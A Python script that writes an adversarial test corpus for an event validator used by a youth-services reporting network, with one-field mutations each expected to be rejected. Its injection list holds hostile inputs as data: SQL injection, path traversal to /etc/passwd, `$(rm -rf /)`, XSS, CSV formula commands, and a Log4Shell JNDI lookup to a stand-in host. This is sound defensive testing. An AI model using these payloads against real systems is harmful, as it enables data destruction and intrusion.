#!/usr/bin/env python3
"""Writes the adversarial event corpus of `pdn validate` (and of the HTTP collector, same validator).

What it does
    Starts from one VALID event of each event type (the BASES below, taken from
    `pdn generate --year 2025 --events 20000 --seed 3 --department 82`; the run with 200 events only
    holds 8 of the 21 types, and `network.professional_left` is never generated, so that one was
    written by hand), changes exactly ONE thing in a copy, and writes the raw bytes of the result:

      tests/adversarial/events/cases/NNN-slug.json     one event per file, one line, no trailing
                                                       newline, may hold invalid UTF-8
      tests/adversarial/events/expected.tsv            `case<TAB>reason`: the reason code that
                                                       `pdn validate --now 2026-01-01T00:00:00Z FILE`
                                                       prints for the case
      tests/adversarial/events/bases.ndjson            the valid events the cases derive from

    Every case must be REJECTED. The expected reasons were read from the real output of the binary
    (see verify_events.py) and checked to match what each case attempts; they are written here next
    to each case. There is no "accepted" list any more: the 25 adversarial events that the validator
    used to accept (duplicated keys, leap seconds, lenient payload timestamps and dates, unreal
    offsets, communes checked by shape only, personal data in free identifiers, contradictions
    within one event) are refused since the validator was fixed, and are ordinary cases (the
    `probe` category and the end of `duplicate-key`).

How to rerun
    python3 scripts/adversarial/events.py          # from anywhere; rewrites the files above
    python3 scripts/adversarial/verify_events.py   # runs the binary on every case and compares

Deterministic: no randomness, no clock, no environment; rerunning gives byte-identical files (the
files of the corpus directories that it did not write are removed). Python 3 standard library only.
"""

import copy
import json
import os
import re
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
OUT = os.path.join(ROOT, "tests", "adversarial", "events")

# --------------------------------------------------------------------------------------------------
# Valid starting events, one per type (contact.recorded in both schema versions; two bases for
# accompaniment.updated and accompaniment.opened so that every list field is non-empty somewhere).
# --------------------------------------------------------------------------------------------------
BASES = {
    "enrolled": '{"event_id":"a4c55828-80b4-4294-aaf0-03976e144373","type":"network.professional_enrolled","schema_version":1,"occurred_at":"2025-01-04T09:00:37+01:00","source_app":"outil-coordination","department":"82","structure_id":"str-82-006","professional_id":"pro-82-0011","payload":{"role":"animateur"}}',
    # Not produced by the generator: written by hand in the same shape.
    "left": '{"event_id":"0d6c2f4e-3b1a-4e5f-9a8b-7c6d5e4f3a21","type":"network.professional_left","schema_version":1,"occurred_at":"2025-06-30T17:00:00+02:00","source_app":"outil-coordination","department":"82","structure_id":"str-82-006","professional_id":"pro-82-0011","payload":{"months_in_network":18}}',
    "structure": '{"event_id":"acf21e4e-9a2b-4a86-9718-bf287b95498f","type":"network.structure_registered","schema_version":1,"occurred_at":"2025-01-03T12:04:30+01:00","source_app":"outil-coordination","department":"82","structure_id":"str-82-006","professional_id":"pro-82-0006","payload":{"structure_type":"service_jeunesse","commune":"82045","qpv":false,"rural":false}}',
    "agr_started": '{"event_id":"12c8b504-4aeb-4ce4-96f5-e151364486f7","type":"network.agreement_started","schema_version":1,"occurred_at":"2025-01-05T05:15:25+01:00","source_app":"outil-coordination","department":"82","structure_id":"str-82-006","professional_id":"pro-82-0006","payload":{"agreement_id":"agr-82-0006","subject":"structure","starts_on":"2025-01-05","ends_on":"2027-01-04"}}',
    # From `--years 2024-2025` (same seed and department).
    "agr_ended": '{"event_id":"43e1b550-dfed-4ce7-9c78-51cac2b9416d","type":"network.agreement_ended","schema_version":1,"occurred_at":"2025-01-09T15:41:46+01:00","source_app":"outil-coordination","department":"82","structure_id":"str-82-002","professional_id":"pro-82-0005","payload":{"agreement_id":"agr-82-0009","subject":"professional","ended_on":"2025-01-09"}}',
    "contact": '{"event_id":"8b7ad478-067f-47e7-92a3-a8212f1b3628","type":"contact.recorded","schema_version":2,"occurred_at":"2025-02-05T16:49:05+01:00","source_app":"pdn-mobile","department":"82","structure_id":"str-82-004","professional_id":"pro-82-0007","payload":{"youth":"yp1_92c32ad373e3d8c6fdcb0ff748e8549a","channel":"phone","initiated_by":"youth","visibility":"private","in_permanence":true,"permanence_id":"perm-82-0007-0005","themes":["emploi_formation_insertion","lien_social","mobilite"],"age_band":"18-21","duration_minutes":1,"response_delay_minutes":43}}',
    "contact_v1": '{"event_id":"d1e466c5-f063-4010-a6a0-a48033054d3a","type":"contact.recorded","schema_version":1,"occurred_at":"2025-01-03T17:02:51+01:00","source_app":"pdn-mobile","department":"82","structure_id":"str-82-004","professional_id":"pro-82-0007","payload":{"youth":"yp1_dffd6ed22fe4bebc07c38a1c540fe588","channel":"instagram","initiated_by_youth":true,"private":true,"in_permanence":false,"theme":"citoyennete_engagement","age_band":"15-17","duration_minutes":19}}',
    "perm_sched": '{"event_id":"4f2fc616-6ae3-4d44-bcef-9b1cab5e8259","type":"permanence.scheduled","schema_version":1,"occurred_at":"2025-01-01T16:10:33+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-001","professional_id":"pro-82-0001","payload":{"permanence_id":"perm-82-0001-0001","slot_start":"2025-01-07T18:30:00+01:00","slot_end":"2025-01-07T20:00:00+01:00","channels":["snapchat","tiktok","facebook"]}}',
    "perm_held": '{"event_id":"2368b2b1-62d3-4c04-851e-79fb9fcd5ef6","type":"permanence.held","schema_version":1,"occurred_at":"2025-01-07T20:08:00+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-001","professional_id":"pro-82-0001","payload":{"permanence_id":"perm-82-0001-0001","slot_start":"2025-01-07T18:30:00+01:00","slot_end":"2025-01-07T20:00:00+01:00","channels":["snapchat","tiktok","facebook"],"youths_reached":5}}',
    "perm_cancel": '{"event_id":"56c0045b-7de9-45e4-be8f-6ae1a137141b","type":"permanence.cancelled","schema_version":1,"occurred_at":"2025-01-03T23:06:18+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-005","professional_id":"pro-82-0009","payload":{"permanence_id":"perm-82-0009-0001","reason":"absence"}}',
    "acc_opened": '{"event_id":"6d45ced5-0209-413e-8b65-c0d69741d766","type":"accompaniment.opened","schema_version":1,"occurred_at":"2025-09-22T17:33:27+02:00","source_app":"pdn-web","department":"82","structure_id":"str-82-004","professional_id":"pro-82-0004","payload":{"accompaniment_id":"acc-82-0000463","kind":"individual","theme":"lien_social","youths":["yp1_51344f14ca9473993b95eb38b3d58bd3"],"co_professionals":["pro-82-0007","pro-82-0003"],"co_structures":["str-82-003"]}}',
    "acc_collective": '{"event_id":"95ec6e9b-5667-4185-9c6e-78342ac14fb1","type":"accompaniment.opened","schema_version":1,"occurred_at":"2025-06-17T14:28:11+02:00","source_app":"pdn-web","department":"82","structure_id":"str-82-006","professional_id":"pro-82-0011","payload":{"accompaniment_id":"acc-82-c2025-006","kind":"collective","theme":"lien_social","youths":["yp1_85c8e739ebcfa49fac7ec57cfed0315e","yp1_310ffca37195a2914991446a62b45634","yp1_ea0f8b754a8fa3d07e798df58257a4c8","yp1_5cd203754ea8a5633bb6b98727212f8b","yp1_40fb15e7d7514c9f1292e271f2668700","yp1_cbbb3da82bc65c258e7cd43924dd1f7a","yp1_b6c9919dd4a383460412985b594a1f3b","yp1_ad5b435b58600c4762c0ae94c6990ae7","yp1_54faf4ea53e129940a83f2740d7a8a3c"],"co_professionals":[],"co_structures":[]}}',
    "acc_updated_y": '{"event_id":"d15514bc-6842-4f33-b7ff-b2499ce6e373","type":"accompaniment.updated","schema_version":1,"occurred_at":"2025-11-13T11:24:30+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-004","professional_id":"pro-82-0004","payload":{"accompaniment_id":"acc-82-c2025-001","youths_added":["yp1_759a12f41ed5bd122ca6918852c21760","yp1_819ec2ff78876a64707c2f02c2e6392e"],"youths_left":[],"co_professionals_added":[],"co_structures_added":[]}}',
    "acc_updated_p": '{"event_id":"e35156aa-520b-48d1-b644-6677dd78cb99","type":"accompaniment.updated","schema_version":1,"occurred_at":"2025-05-27T15:39:54+02:00","source_app":"pdn-web","department":"82","structure_id":"str-82-001","professional_id":"pro-82-0001","payload":{"accompaniment_id":"acc-82-0000089","youths_added":[],"youths_left":[],"co_professionals_added":["pro-82-0005"],"co_structures_added":["str-82-005"]}}',
    "acc_closed": '{"event_id":"4b13cd30-ec55-4ef6-8309-4981c96c6322","type":"accompaniment.closed","schema_version":1,"occurred_at":"2025-05-03T10:37:44+02:00","source_app":"pdn-web","department":"82","structure_id":"str-82-005","professional_id":"pro-82-0005","payload":{"accompaniment_id":"acc-82-0001137","outcome":"completed"}}',
    "ref_made": '{"event_id":"11e4fde3-46e9-40ae-8db2-bbc91e28abb2","type":"referral.made","schema_version":1,"occurred_at":"2025-01-06T20:49:22+01:00","source_app":"pdn-mobile","department":"82","structure_id":"str-82-001","professional_id":"pro-82-0012","payload":{"referral_id":"ref-82-0003251","youth":"yp1_6547f18e42b20cdb43719567d300f859","destination":"3018","urgency":"routine","age_band":"15-17"}}',
    "ref_outcome": '{"event_id":"96026648-13e1-4e80-a41f-34de6f667c8a","type":"referral.outcome_known","schema_version":1,"occurred_at":"2025-01-16T17:24:26+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-003","professional_id":"pro-82-0003","payload":{"referral_id":"ref-82-0001793","outcome":"attended"}}',
    "attendance": '{"event_id":"26825b86-ac26-4184-8dbf-198f180bbc48","type":"attendance.recorded","schema_version":1,"occurred_at":"2025-01-02T14:01:27+01:00","source_app":"registre-structure","department":"82","structure_id":"str-82-002","professional_id":"pro-82-0002","payload":{"youth":"yp1_02c856c40782dade765192d107075442","activity":"activity","age_band":"22-25","new_to_structure":true}}',
    "initiative": '{"event_id":"a79d2faa-5dff-45d7-9887-32d201135fe8","type":"initiative.held","schema_version":1,"occurred_at":"2025-12-13T16:26:36+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-004","professional_id":"pro-82-0004","payload":{"initiative_id":"ini-82-2025-0006","theme":"lien_social","format":"campaign","channels":["instagram","discord","facebook"],"youths_count":43,"partner_structures":["str-82-001","str-82-002"]}}',
    "collab": '{"event_id":"8f8aa50b-4716-4d83-aedf-b0027a9829c4","type":"collaboration.recorded","schema_version":1,"occurred_at":"2025-03-10T09:34:04+01:00","source_app":"outil-coordination","department":"82","structure_id":"str-82-004","professional_id":"pro-82-0007","payload":{"collaboration_id":"col-82-2025-005","kind":"exchange","participants":["pro-82-0007","pro-82-0010","pro-82-0012"],"structures":["str-82-001","str-82-004","str-82-005"],"duration_minutes":67}}',
    "concern": '{"event_id":"8c971bb8-c4cf-4bf4-94f1-70b46a9721ee","type":"prevention.concern_flagged","schema_version":1,"occurred_at":"2025-01-10T15:38:04+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-003","professional_id":"pro-82-0003","payload":{"concern_id":"cnc-82-0001756","youth":"yp1_0a74db7afe7e1282e59e3aea03a5bc83","level":"low","category":"harcelement","age_band":"15-17"}}',
    "signalement": '{"event_id":"3745f8df-cec7-4197-a8ad-dd005520e5c0","type":"prevention.signalement_made","schema_version":1,"occurred_at":"2025-04-10T06:16:34+02:00","source_app":"pdn-web","department":"82","structure_id":"str-82-002","professional_id":"pro-82-0002","payload":{"concern_id":"cnc-82-0002085","youth":"yp1_2529970eb5274843c9e73293c76ffdca","level":"high","destination":"crip"}}',
    "retracted": '{"event_id":"86928e48-e4b9-4bd4-9255-9cae963dc159","type":"correction.retracted","schema_version":1,"occurred_at":"2025-02-22T16:25:48+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-002","professional_id":"pro-82-0002","payload":{"target_event_id":"cc0876ca-1b50-40a9-9bb3-c00b3b8b4eec","reason":"entry_error"}}',
    "amended": '{"event_id":"801565fe-0b21-4090-b7fc-a67ead1f4a60","type":"correction.amended","schema_version":1,"occurred_at":"2025-02-13T12:19:17+01:00","source_app":"pdn-web","department":"82","structure_id":"str-82-006","professional_id":"pro-82-0011","payload":{"target_event_id":"55289d83-4fb2-4c03-8879-3b1101378079","reason":"entry_error","target_type":"contact.recorded","replacement":{"age_band":"22-25","channel":"phone","duration_minutes":11,"in_permanence":false,"initiated_by":"professional","themes":["logement"],"visibility":"private","youth":"yp1_6f0bb47fa6f102de503dd10ad0e811ee"}}}',
}

# --------------------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------------------
_RAW = {}


def raw(literal):
    """A placeholder for raw JSON text (bytes or str) spliced in verbatim by dump(): NaN, 1e400,
    lone surrogate escapes, 10 000 nested brackets, invalid UTF-8..."""
    token = "@@RAW%d@@" % len(_RAW)
    _RAW[token] = literal.encode("utf-8") if isinstance(literal, str) else literal
    return token


def dump(obj):
    """Compact JSON like the generator's; raw() placeholders replaced by their text."""
    data = json.dumps(obj, ensure_ascii=False, separators=(",", ":")).encode("utf-8")
    for token in re.findall(rb"@@RAW\d+@@", data):
        data = data.replace(b'"' + token + b'"', _RAW[token.decode()], 1)
    return data


def ev(base):
    """A fresh copy of a base event, as a dict keeping the key order."""
    return json.loads(BASES[base])


def text(base):
    return BASES[base].encode("utf-8")


def _walk(obj, path):
    parts = [int(p) if p.isdigit() else p for p in path.split(".")]
    for p in parts[:-1]:
        obj = obj[p]
    return obj, parts[-1]


def setp(base, path, value):
    """The base with the value at `path` (e.g. `payload.themes.0`) replaced or added."""
    e = ev(base)
    parent, last = _walk(e, path)
    parent[last] = value
    return e


def delp(base, path):
    """The base without the field at `path`."""
    e = ev(base)
    parent, last = _walk(e, path)
    del parent[last]
    return e


def sub(data, old, new):
    """Replaces the one occurrence of `old` in `data` (bytes) by `new`."""
    old = old.encode("utf-8") if isinstance(old, str) else old
    new = new.encode("utf-8") if isinstance(new, str) else new
    assert data.count(old) == 1, (data[:80], old)
    return data.replace(old, new)


CASES = []  # (category, slug, bytes, reason)


def case(category, slug, data, reason):
    """Registers a case. `reason` is the reason code `pdn validate` prints when it rejects it."""
    assert reason, slug
    if not isinstance(data, bytes):
        data = dump(data)
    assert b"\n" not in data, slug
    slug = re.sub(r"[^a-z0-9]+", "-", slug.lower()).strip("-")
    CASES.append((category, slug, data, reason))


# --------------------------------------------------------------------------------------------------
# The reason a string gets in a field: the privacy scan (schemas/src/pii.rs) first, then the
# field's own format. Used for the injection matrix; the verify script checks it against the binary.
# --------------------------------------------------------------------------------------------------
DATE_KEYS = {"starts_on", "ends_on", "ended_on", "occurred_at", "slot_start", "slot_end"}
RUST_WHITESPACE = set("\t\n\x0b\x0c\r \x85\xa0\u1680\u2028\u2029\u202f\u205f\u3000") | {
    chr(c) for c in range(0x2000, 0x200B)
}
CODE = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-.:+")


def _phone(s):
    t = s.strip()
    # A French number in international form without its "+": "33" and nine digits, not 0 first.
    if len(t) == 11 and t.startswith("33") and t[2] != "0" and t.isascii() and t.isdigit():
        return True
    return (
        t[:1] in ("0", "+")
        and all(c.isdigit() and c.isascii() or c in " .-()+" for c in t)
        and 9 <= sum(c.isdigit() and c.isascii() for c in t) <= 15
    )


def _bare_date(s):
    b = s.strip()
    if len(b.encode()) != 10 or not b.isascii():
        return False
    d = lambda r: all(c.isdigit() for c in b[r[0]:r[1]])  # noqa: E731
    iso = d((0, 4)) and b[4] == "-" and d((5, 7)) and b[7] == "-" and d((8, 10))
    sep = lambda c: c in "/-."  # noqa: E731
    eur = d((0, 2)) and sep(b[2]) and d((3, 5)) and sep(b[5]) and d((6, 10))
    return iso or eur


def _email(s):
    for word in re.split(r"[\s,;<>]", s):
        if "@" in word:
            local, domain = word.split("@", 1)
            if local and "." in domain and not domain.startswith(".") and not domain.endswith("."):
                return True
    return False


def privacy_reason(s, key):
    if len(s.encode()) <= 64 and all(c in CODE for c in s):
        if not (s[:1] in ("0", "+", "3") and _phone(s)) and not (
            len(s.encode()) == 10 and key not in DATE_KEYS and _bare_date(s)
        ):
            return None
    if _email(s):
        return "email_address"
    if _phone(s):
        return "phone_number"
    if key not in DATE_KEYS and _bare_date(s):
        return "date_of_birth"
    if any(c in RUST_WHITESPACE for c in s):
        return "free_text"
    if len(s) > 64:
        return "value_too_long"
    if not all(0x21 <= ord(c) <= 0x7E for c in s):
        return "invalid_characters"
    return None


# The kind of each string field, and the reason a malformed value of that kind gets.
KIND_REASON = {
    "event_id": "invalid_event_id",
    "type": "unknown_event_type",
    "timestamp": "invalid_timestamp",
    "source_app": "invalid_source_app",
    "department": "invalid_department",
    "ident": "invalid_identifier",
    "enum": "invalid_enum_value",
    "youth": "raw_youth_id",
    "date": "invalid_date",
    "commune": "invalid_commune",
}


def string_reason(s, key, kind):
    return privacy_reason(s, key) or KIND_REASON[kind]


ENVELOPE_STRINGS = [
    ("event_id", "event_id"),
    ("type", "type"),
    ("occurred_at", "timestamp"),
    ("source_app", "source_app"),
    ("department", "department"),
    ("structure_id", "ident"),
    ("professional_id", "ident"),
]

# Every string field of every payload (list fields: their first item), with its kind.
PAYLOAD_STRINGS = [
    ("enrolled", "role", "enum"),
    ("structure", "structure_type", "enum"),
    ("structure", "commune", "commune"),
    ("agr_started", "agreement_id", "ident"),
    ("agr_started", "subject", "enum"),
    ("agr_started", "starts_on", "date"),
    ("agr_started", "ends_on", "date"),
    ("agr_ended", "agreement_id", "ident"),
    ("agr_ended", "subject", "enum"),
    ("agr_ended", "ended_on", "date"),
    ("contact", "youth", "youth"),
    ("contact", "channel", "enum"),
    ("contact", "initiated_by", "enum"),
    ("contact", "visibility", "enum"),
    ("contact", "permanence_id", "ident"),
    ("contact", "themes.0", "enum"),
    ("contact", "age_band", "enum"),
    ("contact_v1", "youth", "youth"),
    ("contact_v1", "channel", "enum"),
    ("contact_v1", "theme", "enum"),
    ("contact_v1", "age_band", "enum"),
    ("perm_sched", "permanence_id", "ident"),
    ("perm_sched", "slot_start", "timestamp"),
    ("perm_sched", "slot_end", "timestamp"),
    ("perm_sched", "channels.0", "enum"),
    ("perm_held", "permanence_id", "ident"),
    ("perm_held", "slot_start", "timestamp"),
    ("perm_held", "slot_end", "timestamp"),
    ("perm_held", "channels.0", "enum"),
    ("perm_cancel", "permanence_id", "ident"),
    ("perm_cancel", "reason", "enum"),
    ("acc_opened", "accompaniment_id", "ident"),
    ("acc_opened", "kind", "enum"),
    ("acc_opened", "theme", "enum"),
    ("acc_opened", "youths.0", "youth"),
    ("acc_opened", "co_professionals.0", "ident"),
    ("acc_opened", "co_structures.0", "ident"),
    ("acc_updated_y", "accompaniment_id", "ident"),
    ("acc_updated_y", "youths_added.0", "youth"),
    ("acc_updated_y", "youths_left", "youth"),  # an empty list in the base: becomes [value]
    ("acc_updated_p", "co_professionals_added.0", "ident"),
    ("acc_updated_p", "co_structures_added.0", "ident"),
    ("acc_closed", "accompaniment_id", "ident"),
    ("acc_closed", "outcome", "enum"),
    ("ref_made", "referral_id", "ident"),
    ("ref_made", "youth", "youth"),
    ("ref_made", "destination", "enum"),
    ("ref_made", "urgency", "enum"),
    ("ref_made", "age_band", "enum"),
    ("ref_outcome", "referral_id", "ident"),
    ("ref_outcome", "outcome", "enum"),
    ("attendance", "youth", "youth"),
    ("attendance", "activity", "enum"),
    ("attendance", "age_band", "enum"),
    ("initiative", "initiative_id", "ident"),
    ("initiative", "theme", "enum"),
    ("initiative", "format", "enum"),
    ("initiative", "channels.0", "enum"),
    ("initiative", "partner_structures.0", "ident"),
    ("collab", "collaboration_id", "ident"),
    ("collab", "kind", "enum"),
    ("collab", "participants.0", "ident"),
    ("collab", "structures.0", "ident"),
    ("concern", "concern_id", "ident"),
    ("concern", "youth", "youth"),
    ("concern", "level", "enum"),
    ("concern", "category", "enum"),
    ("concern", "age_band", "enum"),
    ("signalement", "concern_id", "ident"),
    ("signalement", "youth", "youth"),
    ("signalement", "level", "enum"),
    ("signalement", "destination", "enum"),
    ("retracted", "target_event_id", "event_id"),
    ("retracted", "reason", "enum"),
    ("amended", "target_event_id", "event_id"),
    ("amended", "reason", "enum"),
    ("amended", "target_type", "enum"),
    ("amended", "replacement.youth", "youth"),
    ("amended", "replacement.channel", "enum"),
    ("amended", "replacement.initiated_by", "enum"),
    ("amended", "replacement.visibility", "enum"),
    ("amended", "replacement.themes.0", "enum"),
    ("amended", "replacement.age_band", "enum"),
]

INJECTIONS = [
    ("sqli-drop", "'; DROP TABLE contact;--"),
    ("sqli-or", "' OR 1=1 --"),
    ("path-traversal", "../../etc/passwd"),
    ("shell-subst", "$(rm -rf /)"),
    ("xss", "<script>alert(1)</script>"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("log-forge-lf", "x\nline 2: event 00000000-forged: valid"),
    ("log-forge-cr", "x\r2025-01-01 INFO accepted"),
    ("format-string", "%s%n%x%n%p"),
    ("json-in-string", '{"department":"75","note":"x"}'),
    ("log4shell", "${jndi:ldap://x.example/a}"),
    ("sqli-nospace", "';DROP/**/TABLE/**/contact;--"),
    ("shell-backtick", "`id`"),
    ("path-traversal-win", "..\\..\\windows\\win.ini"),
    ("csv-formula-nospace", "=HYPERLINK(\"//x.example\")"),
    ("nosql-operator", '{"$gt":""}'),
]


def youth_key(path):
    """The key the privacy scan attributes a value to: the field, or for list items the list."""
    parts = [p for p in path.split(".") if not p.isdigit()]
    return parts[-1]


# --------------------------------------------------------------------------------------------------
# The cases
# --------------------------------------------------------------------------------------------------
def huge():
    c = "huge"
    case(c, "huge-event-id-2mb", setp("contact", "event_id", "a" * 2_000_000), "event_too_large")
    case(c, "huge-youth-string-2mb", setp("contact", "payload.youth", "yp1_" + "0" * 2_000_000), "event_too_large")
    case(c, "huge-key-1mb-in-payload", setp("contact", "payload." + "k" * 1_000_000, 1), "event_too_large")
    case(c, "huge-array-100k-channels", setp("perm_sched", "payload.channels", ["discord"] * 100_000), "event_too_large")
    case(c, "huge-array-100k-ints-as-themes", setp("contact", "payload.themes", [0] * 100_000), "event_too_large")
    case(c, "huge-invalid-utf8-1mb", sub(text("contact"), '"pdn-mobile"', b'"' + b"\xff" * 1_000_000 + b'"'), "event_too_large")
    pad = 65537 - len(text("contact"))
    case(c, "size-65537-bytes-trailing-spaces", text("contact") + b" " * pad, "event_too_large")
    case(c, "event-id-60k-chars-under-size-limit", setp("contact", "event_id", "a" * 60_000), "value_too_long")
    case(c, "event-id-65-chars", setp("contact", "event_id", "a" * 65), "value_too_long")
    case(c, "structure-id-65-chars", setp("contact", "structure_id", "s" * 65), "value_too_long")
    case(c, "permanence-id-65-chars", setp("contact", "payload.permanence_id", "p" * 65), "value_too_long")
    case(c, "youth-pseudonym-65-chars", setp("contact", "payload.youth", "yp1_" + "a" * 61), "value_too_long")
    e = ev("contact")
    for i in range(3000):
        e["payload"]["f%04d" % i] = 0
    case(c, "payload-3000-unknown-fields", e, "unknown_field")
    case(c, "themes-3000-items", setp("contact", "payload.themes", ["autre"] * 3000), "too_many_items")


def lists():
    c = "lists"
    yp = lambda i: "yp1_%032x" % (0xABC0000 + i)  # noqa: E731
    pro = lambda i: "pro-82-%04d" % (100 + i)  # noqa: E731
    st = lambda i: "str-82-%03d" % (100 + i)  # noqa: E731
    case(c, "themes-6-items", setp("contact", "payload.themes", ["lien_social", "logement", "mobilite", "autre", "sante_physique", "addictions"]), "too_many_items")
    case(c, "themes-empty", setp("contact", "payload.themes", []), "empty_list")
    case(c, "themes-duplicate", setp("contact", "payload.themes", ["lien_social", "logement", "lien_social"]), "duplicate_in_list")
    case(c, "channels-14-items", setp("perm_sched", "payload.channels", ["discord"] * 14), "too_many_items")
    case(c, "channels-empty", setp("perm_held", "payload.channels", []), "empty_list")
    case(c, "channels-duplicate", setp("initiative", "payload.channels", ["instagram", "discord", "instagram"]), "duplicate_in_list")
    case(c, "youths-51-collective", setp("acc_collective", "payload.youths", [yp(i) for i in range(51)]), "too_many_items")
    case(c, "youths-empty", setp("acc_collective", "payload.youths", []), "empty_list")
    e = ev("acc_collective")
    e["payload"]["youths"][3] = e["payload"]["youths"][0]
    case(c, "youths-duplicate-pseudonym", e, "duplicate_in_list")
    case(c, "individual-accompaniment-with-2-youths", setp("acc_opened", "payload.youths", [yp(1), yp(2)]), "inconsistent_value")
    case(c, "co-professionals-21", setp("acc_opened", "payload.co_professionals", [pro(i) for i in range(21)]), "too_many_items")
    case(c, "co-structures-duplicate", setp("acc_opened", "payload.co_structures", ["str-82-003", "str-82-003"]), "duplicate_in_list")
    case(c, "youths-added-51", setp("acc_updated_y", "payload.youths_added", [yp(i) for i in range(51)]), "too_many_items")
    case(c, "update-that-changes-nothing", setp("acc_updated_y", "payload.youths_added", []), "inconsistent_value")
    case(c, "participants-201", setp("collab", "payload.participants", [pro(i) for i in range(201)]), "too_many_items")
    case(c, "participants-empty", setp("collab", "payload.participants", []), "empty_list")
    case(c, "structures-101", setp("collab", "payload.structures", [st(i) for i in range(101)]), "too_many_items")
    case(c, "partner-structures-21", setp("initiative", "payload.partner_structures", [st(i) for i in range(21)]), "too_many_items")
    case(c, "partner-structures-duplicate", setp("initiative", "payload.partner_structures", ["str-82-001", "str-82-001"]), "duplicate_in_list")
    case(c, "replacement-themes-empty", setp("amended", "payload.replacement.themes", []), "empty_list")


def deep():
    """Nesting beyond 6 levels is too_deep, whether the privacy scan measures it (up to serde_json's
    recursion limit, about 128 levels) or serde_json stops reading (10 000 levels)."""
    c = "deep"
    nest_a = lambda n, inner='"autre"': "[" * n + inner + "]" * n  # noqa: E731
    nest_o = lambda n: '{"a":' * n + "1" + "}" * n  # noqa: E731
    case(c, "payload-10k-nested-arrays", setp("contact", "payload.themes", raw(nest_a(10_000))), "too_deep")
    case(c, "payload-10k-nested-objects", setp("contact", "payload.themes", raw(nest_o(10_000))), "too_deep")
    case(c, "toplevel-10k-nested-arrays-around-event", b"[" * 10_000 + text("contact") + b"]" * 10_000, "too_deep")
    case(c, "toplevel-field-10k-nested-objects", setp("contact", "x", raw(nest_o(10_000))), "too_deep")
    case(c, "toplevel-field-10k-nested-arrays", setp("contact", "x", raw(nest_a(10_000, "0"))), "too_deep")
    case(c, "themes-nested-200", setp("contact", "payload.themes", raw(nest_a(200))), "too_deep")
    case(c, "themes-nested-100", setp("contact", "payload.themes", raw(nest_a(100))), "too_deep")
    case(c, "themes-nested-5-just-too-deep", setp("contact", "payload.themes", raw(nest_a(5))), "too_deep")
    case(c, "payload-field-object-chain-6", setp("contact", "payload.youth", raw(nest_o(6))), "too_deep")
    case(c, "toplevel-field-nested-arrays-50", setp("contact", "x", raw(nest_a(50, "0"))), "too_deep")
    case(c, "replacement-themes-nested-4", setp("amended", "payload.replacement.themes", raw(nest_a(4, '"logement"'))), "too_deep")


def invalid_utf8():
    c = "invalid-utf8"
    t = text("contact")
    case(c, "byte-ff-in-event-id", sub(t, b"8b7ad478-", b"8b7ad478\xff"), "invalid_utf8")
    case(c, "byte-ff-in-envelope-key", sub(t, b'"event_id"', b'"event\xffid"'), "invalid_utf8")
    case(c, "byte-fe-in-payload-key", sub(t, b'"channel"', b'"chan\xfeel"'), "invalid_utf8")
    case(c, "truncated-2-byte-seq-in-structure-id", sub(t, b'"str-82-004"', b'"str-82-004\xc3"'), "invalid_utf8")
    case(c, "truncated-3-byte-seq-in-channel", sub(t, b'"phone"', b'"phone\xe2\x82"'), "invalid_utf8")
    case(c, "truncated-4-byte-seq-in-youth", sub(t, b'8549a"', b'8549a\xf0\x9f\x98"'), "invalid_utf8")
    case(c, "truncated-seq-at-end-of-input", t + b"\xe2\x82", "invalid_utf8")
    case(c, "overlong-slash-path-traversal", sub(t, b'"perm-82-0007-0005"', b'"..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd"'), "invalid_utf8")
    case(c, "overlong-nul-2-byte", sub(t, b'"pro-82-0007"', b'"pro-82-0007\xc0\x80"'), "invalid_utf8")
    case(c, "overlong-3-byte-slash", sub(t, b'"82"', b'"8\xe0\x80\xaf2"'), "invalid_utf8")
    case(c, "overlong-4-byte-quote", sub(t, b'"pdn-mobile"', b'"pdn-mobile\xf0\x80\x80\xa2"'), "invalid_utf8")
    case(c, "utf8-encoded-lone-surrogate-d800", sub(t, b'"private"', b'"private\xed\xa0\x80"'), "invalid_utf8")
    case(c, "cesu8-surrogate-pair", sub(t, b'"lien_social"', b'"lien_social\xed\xa0\xbd\xed\xb8\x80"'), "invalid_utf8")
    case(c, "code-point-above-10ffff", sub(t, b'"18-21"', b'"18-21\xf4\x90\x80\x80"'), "invalid_utf8")
    case(c, "five-byte-sequence", sub(t, b':"youth"', b':"you\xf8\x88\x80\x80\x80th"'), "invalid_utf8")
    case(c, "lone-continuation-byte", sub(t, b'"mobilite"', b'"mobilit\x80"'), "invalid_utf8")
    case(c, "latin1-e-acute-in-theme", sub(t, b'"mobilite"', b'"mobilit\xe9"'), "invalid_utf8")
    case(c, "byte-ff-in-type", sub(t, b'"contact.recorded"', b'"contact\xff.recorded"'), "invalid_utf8")
    case(c, "utf16le-bom-prefix", b"\xff\xfe" + t, "invalid_utf8")
    case(c, "whole-event-utf16le-no-bom", t.decode().encode("utf-16-le"), "malformed_json")
    case(c, "cp1252-right-quote-in-professional-id", sub(t, b'"pro-82-0007"', b'"pro\x92s-82-0007"'), "invalid_utf8")
    # JSON-level: \u escapes of lone surrogates (valid UTF-8 bytes, invalid code points).
    case(c, "escaped-lone-high-surrogate-in-event-id", sub(t, b'"8b7ad478-', b'"\\ud8008b7ad478-'), "malformed_json")
    case(c, "escaped-lone-low-surrogate-in-youth", sub(t, b'8549a"', b'8549a\\udfff"'), "malformed_json")
    case(c, "escaped-high-surrogate-then-letter", sub(t, b'"phone"', b'"ph\\ud800\\u0041one"'), "malformed_json")
    case(c, "escaped-lone-surrogate-in-key", sub(t, b'"channel"', b'"chan\\udc00nel"'), "malformed_json")
    case(c, "escaped-reversed-surrogate-pair", sub(t, b'"private"', b'"\\udc00\\ud800private"'), "malformed_json")


def unicode_tricks():
    c = "unicode"
    add = lambda slug, base, path, value, reason: case(c, slug, setp(base, path, value), reason)  # noqa: E731
    add("rlo-in-structure-id", "contact", "structure_id", "str-82-\u202e400", "invalid_characters")
